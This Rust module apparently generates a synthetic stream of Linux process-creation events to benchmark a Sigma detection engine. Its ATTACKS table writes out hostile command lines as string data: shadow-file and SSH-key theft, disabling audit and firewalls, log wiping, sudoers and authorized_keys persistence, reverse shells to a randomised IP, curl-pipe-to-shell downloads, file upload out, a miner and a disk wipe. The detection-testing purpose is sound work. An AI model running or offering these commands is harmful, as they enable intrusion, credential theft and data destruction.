//! The realistic mix: process execs as a Sigma rule set meets them in
//! production, for the side-by-side benchmark against the peer engine
//! (`benches/sigma.rs`).
//!
//! [`crate::generate`] models the seed talk's fleet for the seed rules; this
//! is what the 122 SigmaHQ Linux process-creation rules see on a real one:
//! mostly benign developer, admin and CI activity with long command lines
//! (compilers, `rustc` and `java` invocations hundreds of bytes long, git,
//! npm, pytest, docker, kubectl, ssh, systemd, package managers, shell
//! one-liners), and a small share of attacks as Atomic Red Team's Linux
//! tests run them (credential access, discovery, defence evasion,
//! persistence, privilege escalation, reverse shells, tool transfer,
//! impact). Many benign lines share the rules' short literals (`/sh`,
//! `-r`, `cat`, `base64`, `chmod`), as real ones do, so a literal prefilter
//! lets most of them through.
//!
//! Every event has the seed's schema plus what Sigma's process-creation
//! fields map to (`parent_path`, `parent_command_line`, `user`, `cwd`;
//! [`dac_detect::FieldMapping::linux_process_creation`]), and no two lines
//! are the same (hashes, paths, ports, pids and times vary). One seed names
//! one stream.

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::io::{self, BufWriter, Write};

/// Knobs for [`write_mix`]; equal configs yield identical streams.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MixConfig {
    pub seed: u64,
    /// Attacks per 1000 events.
    pub attacks_per_mille: u32,
    pub start_ts_ms: i64,
}

impl Default for MixConfig {
    fn default() -> Self {
        MixConfig { seed: 7, attacks_per_mille: 20, start_ts_ms: 1_695_342_000_000 }
    }
}

/// One exec: the program, its arguments, and who started it. Placeholders
/// in braces are filled per event ([`Filler::fill`]).
struct Template {
    path: &'static str,
    args: &'static str,
    parent: &'static str,
    parent_args: &'static str,
    /// `dev`, `ci`, `root`, `svc` (a service account) or `web`.
    user: &'static str,
    cwd: &'static str,
}

const fn t(
    path: &'static str,
    args: &'static str,
    parent: &'static str,
    parent_args: &'static str,
    user: &'static str,
    cwd: &'static str,
) -> Template {
    Template { path, args, parent, parent_args, user, cwd }
}

const BASH: &str = "/usr/bin/bash";
const SH: &str = "/bin/sh";
const HOME: &str = "/home/{dev}";
const SRC: &str = "/home/{dev}/src/{proj}";
const CI: &str = "/home/runner/work/{proj}/{proj}";

static BENIGN: &[Template] = &[
    t("/usr/bin/cc", "-c -O2 -g -pipe -Wall -Wextra -Wformat=2 -Wno-unused-parameter -fPIC -fstack-protector-strong -D_FORTIFY_SOURCE=2 -DNDEBUG -DVERSION=\\\"{ver}\\\" -I{src}/include -I{src}/third_party/{lib}/include -I/usr/include/{lib} -MMD -MP -MF build/obj/{file}.d -o build/obj/{file}.o src/{file}.c", "/usr/bin/make", "-j4 all", "dev", SRC),
    t("/usr/bin/c++", "-std=c++17 -O2 -g -fno-omit-frame-pointer -Wall -Werror -I{src}/include -isystem {src}/third_party/abseil -DPROJECT_BUILD_ID={hex16} -c {src}/src/{file}.cc -o {src}/build/CMakeFiles/{proj}.dir/src/{file}.cc.o", "/usr/bin/make", "-f CMakeFiles/{proj}.dir/build.make CMakeFiles/{proj}.dir/build", "ci", CI),
    t("{rustc}", "--crate-name {crate} --edition=2021 /home/{dev}/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/{crate}-{ver}/src/lib.rs --error-format=json --json=diagnostic-rendered-ansi,artifacts,future-incompat --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 -C embed-bitcode=no -C debuginfo=line-tables-only --cfg feature=\"std\" --cfg feature=\"default\" -C metadata={hex16} -C extra-filename=-{hex16} --out-dir {src}/target/release/deps -C strip=debuginfo -L dependency={src}/target/release/deps --extern serde={src}/target/release/deps/libserde-{hex16}.rmeta --cap-lints allow", "/home/{dev}/.cargo/bin/cargo", "build --release --locked", "dev", SRC),
    t("/home/{dev}/.cargo/bin/cargo", "test --workspace --no-fail-fast -- --test-threads={n4}", BASH, "", "dev", SRC),
    t("/usr/bin/git", "-c core.quotepath=false -c color.ui=false log --format=%H%x00%an%x00%ae%x00%at%x00%s -n {n100} origin/{branch}", "/usr/share/code/code", "--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --shared-files=v8_context_snapshot_data:100 --field-trial-handle=3,i,{n}", "dev", SRC),
    t("/usr/bin/git", "fetch --prune --no-tags --progress --no-recurse-submodules --depth=1 origin +{hex40}:refs/remotes/origin/{branch}", "/home/runner/actions-runner/bin/Runner.Worker", "spawnclient {n} {n}", "ci", CI),
    t("/usr/lib/git-core/git-remote-https", "origin https://github.com/{org}/{proj}.git", "/usr/bin/git", "fetch origin", "dev", SRC),
    t("/usr/bin/node", "{src}/node_modules/.bin/jest --ci --coverage --maxWorkers=2 --reporters=default --reporters=jest-junit --testPathPattern=src/{dir}/__tests__/{file}.test.ts", SH, "-c jest --ci --coverage", "ci", CI),
    t("/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js ci --no-audit --no-fund --prefer-offline --cache /home/runner/.npm --loglevel=warn", BASH, "-e /home/runner/work/_temp/{uuid}.sh", "ci", CI),
    t("/usr/bin/python3", "-m pytest -q --maxfail=1 --disable-warnings --junitxml=reports/junit-{n}.xml --cov={proj} --cov-report=xml:reports/coverage-{n}.xml tests/test_{file}.py -k \"not slow and not integration\"", BASH, "-e /home/runner/work/_temp/{uuid}.sh", "ci", CI),
    t("/usr/bin/python3", "-m pip install --no-cache-dir --disable-pip-version-check --requirement requirements/{file}.txt --constraint constraints.txt", SH, "-c make deps", "ci", CI),
    t("/usr/bin/docker", "run --rm --network host -e CI=true -e GIT_COMMIT={hex40} -e BUILD_NUMBER={n} -v /home/runner/work/{proj}:/workspace -w /workspace registry.internal:5000/{org}/{proj}-builder:{ver} make test", BASH, "-e /home/runner/work/_temp/{uuid}.sh", "ci", CI),
    t("/usr/bin/containerd-shim-runc-v2", "-namespace moby -id {hex64} -address /run/containerd/containerd.sock", "/usr/bin/containerd", "", "root", "/"),
    t("/usr/local/bin/kubectl", "--context prod-{region} --namespace {ns} rollout status deployment/{svc} --timeout=300s --watch=true", BASH, "./deploy.sh {svc} {ver}", "dev", SRC),
    t("/usr/local/bin/helm", "upgrade --install {svc} ./charts/{svc} --namespace {ns} --atomic --timeout 10m --set image.tag={hex40} --values values/{region}.yaml", BASH, "-e /home/runner/work/_temp/{uuid}.sh", "ci", CI),
    t("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Xms512m -Xmx2g -XX:+UseG1GC -XX:MaxGCPauseMillis=200 -Dspring.profiles.active=prod -Dlogging.config=/etc/{svc}/logback.xml -Duser.timezone=UTC -cp /opt/{svc}/lib/{svc}-{ver}.jar:/opt/{svc}/lib/spring-core-6.0.{n10}.jar:/opt/{svc}/lib/jackson-databind-2.15.{n10}.jar:/opt/{svc}/lib/netty-all-4.1.{n100}.Final.jar com.example.{svc}.Application --server.port=8{n100}", "/usr/lib/systemd/systemd", "--system --deserialize 31", "svc", "/opt/{svc}"),
    t("/usr/bin/ssh", "-o BatchMode=yes -o ConnectTimeout=10 -o StrictHostKeyChecking=accept-new -i /home/{dev}/.ssh/deploy_ed25519 deploy@{host}.internal sudo systemctl restart {svc}.service", BASH, "./rollout.sh {host}", "dev", SRC),
    t("/usr/bin/rsync", "-az --delete --exclude=.git --exclude=node_modules --exclude=target -e ssh -o BatchMode=yes {src}/dist/ deploy@{host}.internal:/srv/{svc}/releases/{hex8}/", BASH, "./publish.sh", "dev", SRC),
    t("/usr/bin/systemctl", "status {svc}.service --no-pager --lines=50", BASH, "", "root", "/root"),
    t("/usr/bin/journalctl", "-u {svc}.service --since \"2023-09-22 0{n4}:00\" --no-pager -o short-iso --grep \"request_id={hex16}\"", BASH, "", "root", "/root"),
    t("/usr/bin/apt-get", "install -y -q --no-install-recommends libssl-dev=3.0.{n10}-1 pkg-config ca-certificates", SH, "-c apt-get update && apt-get install -y libssl-dev", "root", "/"),
    t("/usr/bin/dpkg", "--status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/{lib}_{ver}-1_amd64.deb", "/usr/bin/apt-get", "install -y {lib}", "root", "/"),
    t(SH, "-c cd {src} && make -j{n4} all 2>&1 | tee build-{n}.log", BASH, "", "dev", SRC),
    t(SH, "-c /usr/lib/php/sessionclean", "/usr/sbin/cron", "-f -P", "root", "/"),
    t(SH, "-c test -x /usr/lib/sysstat/sa1 && /usr/lib/sysstat/sa1 1 1 > /dev/null", "/usr/sbin/cron", "-f -P", "root", "/"),
    t(BASH, "-e /home/runner/work/_temp/{uuid}.sh", "/home/runner/actions-runner/bin/Runner.Worker", "spawnclient {n} {n}", "ci", CI),
    t("/usr/bin/grep", "-rn --include=*.rs --include=*.toml -e {word} -e {word}_{n} {src}/src {src}/tests", BASH, "", "dev", SRC),
    t("/usr/bin/find", "{src} -name *.orig -o -name *.rej -type f -newer {src}/Cargo.lock", BASH, "", "dev", SRC),
    t("/usr/bin/tar", "-czf /var/backups/{svc}-{hex8}.tar.gz -C /srv/{svc} data config", SH, "-c /usr/local/sbin/backup-{svc}", "root", "/"),
    t("/usr/bin/curl", "-fsS --retry 3 --max-time 10 -H \"Authorization: Bearer {hex40}\" https://api.internal/v1/{svc}/health?deep=true", SH, "-c /usr/local/bin/healthcheck {svc}", "svc", "/"),
    t("/usr/bin/cat", "{src}/src/{file}.rs", BASH, "", "dev", SRC),
    t("/usr/bin/ls", "-la --color=auto {src}/target/release", BASH, "", "dev", SRC),
    t("/usr/bin/vim", "{src}/src/{file}.rs", BASH, "", "dev", SRC),
    t("/usr/bin/less", "/var/log/{svc}/{svc}-{n10}.log", BASH, "", "root", "/root"),
    t("/usr/bin/sudo", "systemctl reload nginx.service", BASH, "", "dev", HOME),
    t("/usr/bin/openssl", "x509 -in /etc/ssl/certs/{svc}.pem -noout -enddate -subject -issuer", SH, "-c /usr/local/bin/check-certs", "root", "/"),
    t("/usr/bin/base64", "-w0 {src}/fixtures/{file}.bin", BASH, "", "dev", SRC),
    t("/usr/bin/chmod", "0644 {src}/dist/{file}.js", "/usr/bin/make", "dist", "dev", SRC),
    t("/usr/bin/awk", "-F\\t {if ($3 > {n100}) print $1, $2} /var/log/{svc}/latency-{n10}.tsv", BASH, "", "root", "/root"),
    t("/usr/bin/env", "PYTHONPATH={src} /usr/bin/python3 {src}/manage.py migrate --noinput --database default", SH, "-c ./bin/deploy-migrate", "svc", "/opt/{svc}"),
];

static ATTACKS: &[Template] = &[
    // Credential access.
    t("/usr/bin/cat", "/etc/shadow", BASH, "", "root", "/root"),
    t("/usr/bin/sudo", "cat /etc/shadow", BASH, "", "dev", HOME),
    t(SH, "-c unshadow /etc/passwd /etc/shadow > /tmp/{word}.txt", BASH, "", "root", "/tmp"),
    t("/usr/bin/grep", "-ri password /etc /home --include=*.conf", BASH, "", "dev", HOME),
    t("/usr/bin/find", "/ -name id_rsa -o -name id_ed25519 -o -name *.pem 2>/dev/null", BASH, "", "dev", HOME),
    t("/usr/bin/cat", "/root/.ssh/id_rsa", BASH, "", "root", "/root"),
    t("/usr/bin/cat", "/home/{dev}/.bash_history", BASH, "", "root", "/root"),
    // Discovery.
    t("/usr/bin/uname", "-a", BASH, "", "web", "/var/www"),
    t("/usr/bin/hostnamectl", "", BASH, "", "web", "/var/www"),
    t("/usr/bin/cat", "/etc/os-release", BASH, "", "web", "/var/www"),
    t("/usr/bin/id", "", SH, "-c id", "web", "/var/www"),
    t("/usr/bin/whoami", "", SH, "-c whoami", "web", "/var/www/html"),
    t("/usr/bin/netstat", "-antp", BASH, "", "root", "/tmp"),
    t("/usr/bin/ss", "-tunlp", BASH, "", "root", "/tmp"),
    t("/usr/sbin/arp", "-a", BASH, "", "root", "/tmp"),
    t("/usr/bin/ps", "aux", BASH, "", "web", "/tmp"),
    t("/usr/bin/find", "/ -perm -4000 -type f 2>/dev/null", BASH, "", "web", "/tmp"),
    t("/usr/bin/find", "/ -perm -u=s -type f", BASH, "", "web", "/tmp"),
    t("/usr/bin/ls", "-la /root/.ssh", BASH, "", "root", "/root"),
    t("/usr/bin/nmap", "-sS -p 22,80,443,3306 10.0.{n10}.0/24", BASH, "", "root", "/tmp"),
    t("/usr/sbin/tcpdump", "-i eth0 -w /tmp/{word}.pcap port 80", BASH, "", "root", "/tmp"),
    t("/usr/bin/crontab", "-l", BASH, "", "web", "/var/www"),
    t("/usr/bin/lsmod", "", BASH, "", "root", "/root"),
    t("/usr/sbin/dmidecode", "-t system", BASH, "", "root", "/root"),
    // Defence evasion.
    t("/usr/bin/systemctl", "stop auditd", BASH, "", "root", "/root"),
    t("/usr/sbin/service", "auditd stop", BASH, "", "root", "/root"),
    t("/usr/sbin/setenforce", "0", BASH, "", "root", "/root"),
    t("/usr/sbin/ufw", "disable", BASH, "", "root", "/root"),
    t("/usr/sbin/iptables", "-F", BASH, "", "root", "/root"),
    t("/usr/bin/systemctl", "disable --now firewalld", BASH, "", "root", "/root"),
    t("/usr/sbin/auditctl", "-D", BASH, "", "root", "/root"),
    t(SH, "-c history -c", BASH, "", "root", "/root"),
    t(SH, "-c unset HISTFILE; export HISTFILESIZE=0", BASH, "", "root", "/root"),
    t("/usr/bin/rm", "-rf /root/.bash_history", BASH, "", "root", "/root"),
    t("/usr/bin/shred", "-u /var/log/auth.log", BASH, "", "root", "/var/log"),
    t("/usr/bin/truncate", "-s 0 /var/log/syslog", BASH, "", "root", "/var/log"),
    t("/usr/bin/chattr", "-i /etc/passwd", BASH, "", "root", "/root"),
    t("/usr/bin/touch", "-t 202001010000 /usr/bin/{word}", BASH, "", "root", "/tmp"),
    t("/usr/bin/touch", "-r /bin/ls /tmp/.{word}", BASH, "", "root", "/tmp"),
    t(SH, "-c echo /tmp/{word}.so > /etc/ld.so.preload", BASH, "", "root", "/tmp"),
    t("/usr/sbin/insmod", "/tmp/{word}.ko", BASH, "", "root", "/tmp"),
    t("/usr/bin/base64", "-d /tmp/{word}.b64", BASH, "", "web", "/tmp"),
    t(SH, "-c echo {b64} | base64 -d | bash", "/usr/sbin/apache2", "-k start", "web", "/var/www/html"),
    t(SH, "-c echo {b64} | base64 --decode | sh", "/usr/sbin/php-fpm8.2", "", "web", "/var/www/html"),
    // Persistence and privilege escalation.
    t(SH, "-c echo \"* * * * * /tmp/{word}.sh\" | crontab -", BASH, "", "web", "/tmp"),
    t("/usr/sbin/useradd", "-M -N -r -s /bin/bash -c evil_account {word}", BASH, "", "root", "/root"),
    t("/usr/sbin/usermod", "-aG sudo {word}", BASH, "", "root", "/root"),
    t("/usr/bin/passwd", "-d root", BASH, "", "root", "/root"),
    t("/usr/bin/chmod", "u+s /tmp/{word}", BASH, "", "root", "/tmp"),
    t("/usr/bin/chmod", "+x /tmp/{word}", BASH, "", "web", "/tmp"),
    t("/usr/bin/chmod", "777 /tmp/{word}.sh", BASH, "", "web", "/tmp"),
    t("/usr/bin/setfacl", "-m u:{word}:rwx /etc/shadow", BASH, "", "root", "/root"),
    t(SH, "-c cp /bin/bash /tmp/.{word} && chmod u+s /tmp/.{word}", BASH, "", "root", "/tmp"),
    t(SH, "-c echo \"{word} ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers", BASH, "", "root", "/root"),
    t(SH, "-c echo ssh-rsa AAAAB3NzaC1yc2E{hex40} >> /root/.ssh/authorized_keys", BASH, "", "root", "/root"),
    t("/usr/bin/sudo", "-l", BASH, "", "web", "/tmp"),
    t("/usr/bin/at", "now + 1 minute -f /tmp/{word}.sh", BASH, "", "web", "/tmp"),
    t("/usr/bin/systemd-run", "--unit={word} /tmp/{word}.sh", BASH, "", "root", "/tmp"),
    t("/usr/bin/docker", "run -v /:/host --privileged -it alpine chroot /host", BASH, "", "dev", HOME),
    // Execution, reverse shells and tool transfer.
    t(BASH, "-c bash -i >& /dev/tcp/{ip}/4444 0>&1", "/usr/sbin/php-fpm8.2", "", "web", "/var/www/html"),
    t("/usr/bin/nc", "-e /bin/sh {ip} 4444", BASH, "", "web", "/tmp"),
    t("/usr/bin/ncat", "{ip} 4444 -e /bin/bash", BASH, "", "web", "/tmp"),
    t(SH, "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} 4444 >/tmp/f", "/usr/sbin/apache2", "-k start", "web", "/var/www/html"),
    t("/usr/bin/python3", "-c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])", BASH, "", "web", "/tmp"),
    t("/usr/bin/python3", "-c import pty;pty.spawn(\"/bin/bash\")", "/usr/bin/nc", "-lvnp 4444", "web", "/tmp"),
    t("/usr/bin/perl", "-e use Socket;$i=\"{ip}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)))", BASH, "", "web", "/tmp"),
    t("/usr/bin/socat", "exec:bash -li,pty,stderr,setsid,sigint,sane tcp:{ip}:4444", BASH, "", "web", "/tmp"),
    t("/usr/bin/awk", "BEGIN {s = \"/inet/tcp/0/{ip}/4444\"; while(42) { printf \"> \" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } }", BASH, "", "web", "/tmp"),
    t("/usr/bin/vim", "-c :!/bin/sh", "/usr/bin/sudo", "vim -c :!/bin/sh", "root", "/tmp"),
    t("/usr/bin/find", ". -exec /bin/sh -p ; -quit", "/usr/bin/sudo", "find . -exec /bin/sh -p ; -quit", "root", "/tmp"),
    t("/usr/bin/wget", "http://{ip}/{word} -O /tmp/{word}", BASH, "", "web", "/tmp"),
    t(SH, "-c curl -s http://{ip}/{word}.sh | bash", BASH, "", "web", "/tmp"),
    t(SH, "-c wget -q -O - http://{ip}/{word}.sh | sh", "/usr/sbin/apache2", "-k start", "web", "/var/www/html"),
    t("/usr/bin/curl", "--upload-file /etc/passwd http://{ip}/", BASH, "", "root", "/root"),
    t(SH, "-c curl -L https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh | sh", BASH, "", "web", "/tmp"),
    t("/tmp/{word}", "--donate-level 1 -o pool.minexmr.com:443 -u 4{hex64} -k --tls", BASH, "", "web", "/tmp"),
    // Collection, exfiltration and impact.
    t("/usr/bin/zip", "--password {word} /tmp/{word}.zip /etc/passwd /etc/shadow", BASH, "", "root", "/tmp"),
    t("/usr/bin/openssl", "enc -aes-256-cbc -in /etc/passwd -out /tmp/{word}.enc -k {word}", BASH, "", "root", "/tmp"),
    t("/usr/bin/dd", "if=/dev/zero of=/dev/sda bs=4M count={n100}", BASH, "", "root", "/root"),
    t("/usr/sbin/shutdown", "-h now", BASH, "", "root", "/root"),
    t("/usr/bin/xclip", "-o -selection clipboard", BASH, "", "dev", HOME),
    t("/usr/bin/import", "-window root /tmp/{word}.png", BASH, "", "dev", HOME),
];

/// Writes `count` events as NDJSON, one compact object per line: the mix
/// `cfg` names. Every line differs from every other.
pub fn write_mix(cfg: MixConfig, count: usize, writer: impl Write) -> io::Result<()> {
    let mut out = BufWriter::new(writer);
    let mut rng = SmallRng::seed_from_u64(cfg.seed);
    let mut ts = cfg.start_ts_ms;
    for i in 0..count {
        ts += rng.random_range(0..4);
        let attack = rng.random_range(0..1000) < cfg.attacks_per_mille;
        let pool = if attack { ATTACKS } else { BENIGN };
        let template = &pool[rng.random_range(0..pool.len())];
        let event = Filler::new(&mut rng, i).event(template, ts);
        serde_json::to_writer(&mut out, &event)?;
        out.write_all(b"\n")?;
    }
    out.flush()
}

const HOSTS: [&str; 12] = [
    "web-01",
    "web-02",
    "web-03",
    "db-01",
    "db-02",
    "build-01",
    "build-02",
    "build-03",
    "ana-laptop",
    "sam-laptop",
    "ci-runner-1",
    "ci-runner-2",
];
const DEVS: [&str; 6] = ["ana", "sam", "lee", "priya", "tomas", "wei"];
const PROJECTS: [&str; 8] =
    ["billing", "storefront", "ingest", "auth-gateway", "etl-jobs", "search", "mobile-api", "infra"];
const WORDS: [&str; 16] = [
    "update",
    "cache",
    "sync",
    "helper",
    "agent",
    "monitor",
    "kworker",
    "dbus-daemon",
    "backup",
    "report",
    "cleanup",
    "metrics",
    "session",
    "tmpfile",
    "loader",
    "worker",
];

/// Fills one template: each `{name}` from its pool, the same within an
/// event (the program and its parent name the same project).
struct Filler<'a> {
    rng: &'a mut SmallRng,
    index: usize,
    memo: Vec<(&'static str, String)>,
}

impl<'a> Filler<'a> {
    fn new(rng: &'a mut SmallRng, index: usize) -> Self {
        Filler { rng, index, memo: Vec::new() }
    }

    fn event(mut self, template: &Template, ts: i64) -> serde_json::Value {
        let host = HOSTS[self.rng.random_range(0..HOSTS.len())];
        let path = self.fill(template.path);
        let args = self.fill(template.args);
        let parent = self.fill(template.parent);
        let parent_args = self.fill(template.parent_args);
        let user = match template.user {
            "dev" => self.value("dev"),
            "ci" => "runner".to_owned(),
            "root" => "root".to_owned(),
            "web" => "www-data".to_owned(),
            _ => self.value("svc"),
        };
        let join = |path: &str, args: &str| if args.is_empty() { path.to_owned() } else { format!("{path} {args}") };
        let pid = 1_000 + (self.index as u64 * 7919) % 4_000_000;
        serde_json::json!({
            "hostname": host,
            "ip_address": format!("10.0.{}.{}", self.rng.random_range(1..5), self.rng.random_range(10..60)),
            "parent_pid": pid.saturating_sub(self.rng.random_range(1..500)),
            "pid": pid,
            "path": path,
            "binary": path.rsplit('/').next().unwrap_or(&path).chars().take(15).collect::<String>(),
            "arguments": args,
            "command_line": join(&path, &args),
            "parent_path": parent,
            "parent_command_line": join(&parent, &parent_args),
            "user": user,
            "cwd": self.fill(template.cwd),
            "ts": ts,
            // What makes every line unique, as a real probe's event id does.
            "event_id": format!("{}-{:08x}", self.index, self.rng.random::<u32>()),
        })
    }

    fn fill(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len() + 32);
        let mut rest = text;
        while let Some(start) = rest.find('{') {
            let Some(len) = rest[start..].find('}') else { break };
            let key = &rest[start + 1..start + len];
            out.push_str(&rest[..start]);
            match POOLS.iter().find(|name| **name == key) {
                Some(name) => {
                    let value = self.value(name);
                    out.push_str(&value);
                }
                // Not a placeholder (awk's braces): kept.
                None => out.push_str(&rest[start..=start + len]),
            }
            rest = &rest[start + len + 1..];
        }
        out.push_str(rest);
        out
    }

    fn value(&mut self, name: &'static str) -> String {
        if let Some((_, value)) = self.memo.iter().find(|(key, _)| *key == name) {
            return value.clone();
        }
        let pick = |rng: &mut SmallRng, xs: &[&str]| xs[rng.random_range(0..xs.len())].to_owned();
        let value = match name {
            "dev" => pick(self.rng, &DEVS),
            "proj" => pick(self.rng, &PROJECTS),
            "src" => {
                let (dev, proj) = (self.value("dev"), self.value("proj"));
                format!("/home/{dev}/src/{proj}")
            }
            "rustc" => {
                let dev = self.value("dev");
                format!("/home/{dev}/.rustup/toolchains/1.89.0-x86_64-unknown-linux-gnu/bin/rustc")
            }
            "svc" => pick(self.rng, &["payments", "orders", "gateway", "search-api", "notifier", "ledger"]),
            "org" => pick(self.rng, &["acme", "acme-platform", "acme-data"]),
            "crate" => pick(self.rng, &["serde", "tokio", "regex", "hyper", "rand", "syn", "quote", "libc", "anyhow"]),
            "lib" => pick(self.rng, &["openssl", "zlib", "libcurl", "sqlite3", "libxml2", "protobuf"]),
            "branch" => {
                format!("{}/{}", pick(self.rng, &["feature", "fix", "release"]), self.rng.random_range(100..9999))
            }
            "dir" => pick(self.rng, &["components", "services", "utils", "hooks", "api"]),
            "file" => format!("{}_{}", pick(self.rng, &WORDS), self.rng.random_range(0..500)),
            "word" => format!("{}{}", pick(self.rng, &WORDS), self.rng.random_range(0..100)),
            "ns" => pick(self.rng, &["prod", "payments", "platform", "data"]),
            "region" => pick(self.rng, &["eu-west-1", "us-east-1", "ap-south-1"]),
            "host" => pick(self.rng, &HOSTS),
            "ver" => format!(
                "{}.{}.{}",
                self.rng.random_range(0..4),
                self.rng.random_range(0..30),
                self.rng.random_range(0..20)
            ),
            "ip" => format!(
                "{}.{}.{}.{}",
                self.rng.random_range(11..223),
                self.rng.random_range(0..256),
                self.rng.random_range(0..256),
                self.rng.random_range(1..255)
            ),
            "uuid" => {
                let h = self.hex(32);
                format!("{}-{}-{}-{}-{}", &h[..8], &h[8..12], &h[12..16], &h[16..20], &h[20..])
            }
            "b64" => {
                let h = self.hex(24);
                format!("YmFzaCAtaSA+JiAvZGV2L3RjcC8{h}Cg==")
            }
            "hex8" => self.hex(8),
            "hex16" => self.hex(16),
            "hex40" => self.hex(40),
            "hex64" => self.hex(64),
            "n" => self.rng.random_range(1..100_000).to_string(),
            "n4" => self.rng.random_range(1..5).to_string(),
            "n10" => self.rng.random_range(0..10).to_string(),
            "n100" => self.rng.random_range(1..100).to_string(),
            _ => unreachable!("{name} is in POOLS"),
        };
        // Hashes and numbers vary within an event; names stay.
        if !name.starts_with("hex") && !name.starts_with('n') {
            self.memo.push((name, value.clone()));
        }
        value
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n).map(|_| char::from_digit(self.rng.random_range(0..16), 16).unwrap_or('0')).collect()
    }
}

const POOLS: [&str; 27] = [
    "dev", "proj", "src", "rustc", "svc", "org", "crate", "lib", "branch", "dir", "file", "word", "ns", "region",
    "host", "ver", "ip", "uuid", "b64", "hex8", "hex16", "hex40", "hex64", "n", "n4", "n10", "n100",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_differs_and_carries_the_sigma_fields() {
        let mut out = Vec::new();
        write_mix(MixConfig::default(), 5_000, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 5_000);
        let unique: std::collections::HashSet<&&str> = lines.iter().collect();
        assert_eq!(unique.len(), lines.len());
        let mean = text.len() / lines.len();
        assert!((350..900).contains(&mean), "mean line length {mean}");
        for line in &lines {
            let event: serde_json::Value = serde_json::from_str(line).unwrap();
            for key in ["path", "command_line", "parent_path", "parent_command_line", "user", "cwd"] {
                assert!(event[key].is_string(), "{key} in {line}");
            }
            assert!(!event["command_line"].as_str().unwrap().contains("{dev}"), "{line}");
        }
    }
}
